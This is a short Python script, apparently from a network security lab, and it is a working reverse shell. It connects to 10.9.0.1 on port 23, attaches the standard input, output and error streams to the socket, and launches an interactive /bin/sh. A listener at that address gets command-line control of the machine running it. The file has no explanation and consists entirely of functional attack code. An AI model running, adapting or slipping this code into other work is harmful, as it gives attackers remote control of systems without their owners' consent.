import socket
import os
import select

s = socket.create_connection(("10.9.0.1", 23))
r, w = os.pipe()
pid = os.fork()
if pid == 0:
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    os.dup2(s.fileno(), 2)
    os.execv("/bin/sh", ["sh", "-i"])
else:
    os.waitpid(pid, 0)
